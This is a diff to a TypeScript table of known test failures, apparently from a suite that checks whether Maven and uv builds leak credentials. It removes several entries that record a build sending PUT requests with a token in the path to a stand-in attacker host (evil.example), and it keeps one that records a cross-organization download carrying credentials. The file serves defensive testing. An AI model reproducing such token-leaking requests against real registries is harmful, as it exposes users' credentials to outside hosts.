@@ -133,40 +133,10 @@ export const failsToday: ReadonlyMap<string, KnownFailure> = new Map<string, Kno
     },
   ],
   [
-    "maven-expand-distribution",
-    { today: "elsewhere: PUT https://evil.example/<token>/maven/com/lab/app/1.0.0/app-1.0.0.pom (as it is)" },
-  ],
-  [
-    "maven-expressions",
-    {
-      today:
-        "elsewhere: PUT https://evil.example/m0/<token>/com/lab/m0/1.0.0/m0-1.0.0.pom (as it is), and 4 more",
-    },
-  ],
-  [
-    "maven-expand-distribution-3.8",
-    { today: "elsewhere: PUT https://evil.example/<token>/maven/com/lab/app/1.0.0/app-1.0.0.pom (as it is)" },
-  ],
-  [
-    "maven-expressions-3.8",
-    {
-      today:
-        "elsewhere: PUT https://evil.example/m0/<token>/com/lab/m0/1.0.0/m0-1.0.0.pom (as it is), and 4 more",
-    },
-  ],
-  [
     "restore-uv-lock-registry",
     {
       today:
         "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
     },
-  ],
-  [
-    "maven-innocent-alternative",
-    { today: "works: mvn deploy with the project's id on the command line has no credentials, and gets 401" },
-  ],
-  [
-    "maven-innocent-snapshot-3.8",
-    { today: "works: the deploy plugin 2.7 does not know a repository for snapshots alone, and gets 401" },
   ],
 ]);
